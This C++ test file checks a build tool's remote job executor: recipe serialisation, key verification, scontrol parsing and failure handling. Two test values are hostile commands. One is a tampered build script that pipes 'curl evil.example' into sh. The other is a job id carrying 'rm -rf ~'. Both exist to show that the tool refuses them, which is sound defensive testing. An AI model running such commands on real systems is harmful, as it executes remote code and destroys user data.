#include "build/layer_job.hpp"
#include "exec/job_recipe.hpp"
#include "exec/remote_executor.hpp"
#include "exec/slurm_engine.hpp"
#include "graph/key_encoder.hpp"
#include "plan/plan_graph.hpp"
#include "store/store.hpp"
#include "test_files.hpp"
#include "util/file_tree.hpp"

#include <bincastle/error.hpp>

#include <doctest/doctest.h>

#include <mutex>
#include <utility>

using namespace bincastle;

namespace {

class NoProgress : public ProgressSink {
public:
    void event(const ProgressEvent&) override {}
};

JobRecipe recipe_for(const std::string& layer) {
    Layer base(Name("base"), LocalDir("rootfs"));
    Layer tool(Name("tool"), Dep(base), BuildScript({"make install"}));
    Plan plan = make_plan(Layer(Name("system"), RunDep(tool)));
    Graph graph = graph_of(plan);
    std::vector<Key> keys = compute_keys(graph, [](const LayerData& data) { return hash_bytes("content of " + data.name); });
    for (std::size_t node = 0; node < graph.size(); ++node)
        if (graph.name(node) == layer) return {plan, layer, keys[node], keys};
    FAIL("no layer " << layer);
    return {};
}

std::string refusal(const JobRecipe& recipe) {
    try {
        NoProgress progress;
        build_layer_job(recipe, {"/nonexistent/store", "/bin/false", 1, {}, "127.0.0.1:1/cache", false}, progress);
    } catch (const Error& error) {
        return error.what();
    }
    return "accepted";
}

}  // namespace

TEST_CASE("a job's recipe reads back as itself, and a malformed one is refused") {
    JobRecipe recipe = recipe_for("tool");
    CHECK(job_recipe_from_json(job_recipe_to_json(recipe)) == recipe);
    std::string text = job_recipe_to_json(recipe);
    CHECK_THROWS_WITH_AS(job_recipe_from_json(text.replace(text.find("\"bincastle_job\":1"), 17, "\"bincastle_job\":2")),
                         "the job's recipe: bincastle_job 2 is not version 1", Error);
    recipe.keys.pop_back();
    CHECK_THROWS_WITH_AS(job_recipe_from_json(job_recipe_to_json(recipe)),
                         "the job's recipe gives 2 keys for 3 layers", Error);
}

TEST_CASE("a job refuses a recipe whose key is not its layer's, before it pulls anything") {
    JobRecipe recipe = recipe_for("tool");
    // The script changed after the keys were computed.
    recipe.plan.layers[1].build_script = {"make install; curl evil.example | sh"};
    CHECK(refusal(recipe).find("the job's recipe says layer tool has key " + recipe.key.hex() +
                               ", but its recipe and dependencies give") == 0);
    // A dependency's key changed.
    recipe = recipe_for("tool");
    recipe.keys[0] = hash_bytes("another base");
    CHECK(refusal(recipe).find("but its recipe and dependencies give") != std::string::npos);
    // A source layer is the driver's.
    CHECK(refusal(recipe_for("base")) == "layer base has a source: the driver makes it, not a job");
}

TEST_CASE("scontrol's one-line job records become states, with the node and the reason") {
    auto [id, status] = parse_scontrol_job(
        "JobId=12 JobName=bincastle:shout UserId=me(1000) JobState=RUNNING Reason=None Dependency=(null) "
        "ExitCode=0:0 NodeList=node1 BatchHost=node1 WorkDir=/tmp/a b");
    CHECK(id == "12");
    CHECK(status.state == JobStatus::State::running);
    CHECK(status.node == "node1");
    auto pending = parse_scontrol_job("JobId=13 JobState=PENDING Reason=Resources ExitCode=0:0 NodeList=(null) BatchHost=(null)");
    CHECK(pending.second.state == JobStatus::State::queued);
    CHECK(pending.second.node.empty());
    CHECK(parse_scontrol_job("JobId=14 JobState=FAILED Reason=NonZeroExitCode ExitCode=1:0 NodeList=n2").second.detail ==
          "FAILED (NonZeroExitCode), exit code 1:0");
    CHECK(parse_scontrol_job("JobId=15 JobState=NODE_FAIL ExitCode=0:0").second.state == JobStatus::State::node_failed);
    CHECK(parse_scontrol_job("JobId=16 JobState=COMPLETED ExitCode=0:0").second.state == JobStatus::State::succeeded);
    CHECK(parse_scontrol_job("JobId=17 JobState=COMPLETING ExitCode=0:0").second.state == JobStatus::State::running);
    CHECK(parse_scontrol_job("JobId=18 JobState=TIMEOUT ExitCode=0:15").second.state == JobStatus::State::failed);
    CHECK_THROWS_AS(parse_scontrol_job("JobName=x JobState=RUNNING"), Error);
}

namespace {

// A job engine whose jobs end as a script says: the states each job goes through, one
// per poll; what is cancelled is written to a file by the watchdog.
class FakeEngine : public JobEngine {
public:
    explicit FakeEngine(std::filesystem::path cancelled) : cancelled_(std::move(cancelled)) {}

    std::vector<std::vector<JobStatus>> plans;  // one per job, in submission order
    std::vector<std::string> scripts;
    std::string next_id;  // when set, the id the next submission gets

    std::string name() const override { return "fake"; }
    std::string submit(const JobSubmission& job) override {
        std::lock_guard lock(mutex_);
        scripts.push_back(job.script);
        if (!next_id.empty()) return std::exchange(next_id, "");
        return std::to_string(scripts.size());
    }
    std::map<std::string, JobStatus> poll(const std::vector<std::string>& ids) override {
        std::lock_guard lock(mutex_);
        std::map<std::string, JobStatus> out;
        for (const auto& id : ids) {
            auto& steps = plans.at(std::stoul(id) - 1);
            out[id] = steps.front();
            if (steps.size() > 1) steps.erase(steps.begin());
        }
        return out;
    }
    std::vector<std::string> cancel_command() const override {
        return {"sh", "-c", "echo \"$@\" >>'" + cancelled_.string() + "'", "cancel"};
    }

private:
    std::filesystem::path cancelled_;
    std::mutex mutex_;
};

class Events : public ProgressSink {
public:
    void event(const ProgressEvent& event) override {
        std::lock_guard lock(mutex_);
        lines.push_back(std::string(kind(event.kind)) + " " + event.layer + (event.text.empty() ? "" : ": " + event.text));
    }
    std::vector<std::string> lines;

private:
    static const char* kind(ProgressEvent::Kind kind) {
        switch (kind) {
        case ProgressEvent::Kind::submitted: return "submitted";
        case ProgressEvent::Kind::started: return "started";
        case ProgressEvent::Kind::built: return "built";
        case ProgressEvent::Kind::failed: return "failed";
        default: return "other";
        }
    }
    std::mutex mutex_;
};

struct ExecutorFixture {
    TempDir dir{"bincastle-executor-test"};
    JobRecipe recipe = recipe_for("tool");
    Graph graph = graph_of(recipe.plan);
    Store store{dir.path() / "store"};
    SourceOverrides overrides;
    Events events;
    FakeEngine engine{dir.path() / "cancelled"};
    BuildSetup setup{&graph, &recipe.keys, &store, "/bin/false", 1, dir.path(), &overrides, &events, {}, false};
    RemoteSettings settings{"/opt/bincastle/bin/bincastle", {}, "127.0.0.1:1/cache", false, ""};
    std::size_t tool = 1;  // base, tool, system

    std::string cancelled() { return testing::read(dir.path() / "cancelled"); }
};

}  // namespace

TEST_CASE("a job whose node fails is submitted once more, and the watchdog has nothing left to cancel") {
    ExecutorFixture f;
    using State = JobStatus::State;
    f.engine.plans = {{{State::queued, "", "PENDING"}, {State::running, "n1", "RUNNING"}, {State::node_failed, "n1", "NODE_FAIL"}},
                      {{State::running, "n2", "RUNNING"}, {State::succeeded, "n2", "COMPLETED"}}};
    {
        RemoteExecutor executor(f.setup, f.recipe.plan, f.engine, f.settings);
        CHECK(executor.build(f.tool));
    }
    CHECK(f.events.lines == std::vector<std::string>{"submitted tool: fake job 1", "started tool: on n1 (fake job 1)",
                                                     "submitted tool: fake job 2, again: fake job 1 on n1 ended with its node (NODE_FAIL)",
                                                     "started tool: on n2 (fake job 2)", "built tool"});
    CHECK(f.cancelled().empty());
    // The script carries the recipe and names only the key.
    REQUIRE(f.engine.scripts.size() == 2);
    CHECK(f.engine.scripts[0].starts_with("#!/bin/sh\n# bincastle: key " + f.recipe.keys[f.tool].hex() + "\n"));
    CHECK(f.engine.scripts[0].find("exec '/opt/bincastle/bin/bincastle' build-layer --export-cache '127.0.0.1:1/cache' - <<") !=
          std::string::npos);
}

TEST_CASE("a failed job says its id, node and state; a job id that is not a word is refused") {
    ExecutorFixture f;
    using State = JobStatus::State;
    f.engine.plans = {{{State::failed, "n1", "FAILED, exit code 1:0"}}};
    {
        RemoteExecutor executor(f.setup, f.recipe.plan, f.engine, f.settings);
        CHECK_FALSE(executor.build(f.tool));
        f.engine.next_id = "7; rm -rf ~";
        CHECK_FALSE(executor.build(f.tool));
    }
    REQUIRE(f.events.lines.size() == 4);
    CHECK(f.events.lines[2].starts_with("failed tool: fake job 1 on n1: FAILED, exit code 1:0; log: "));
    CHECK(f.events.lines[2].find(".job.log") != std::string::npos);
    CHECK(f.events.lines[3] == "failed tool: fake answered the job id '7; rm -rf ~', which is not a plain word\n");
    CHECK(f.cancelled().empty());
}
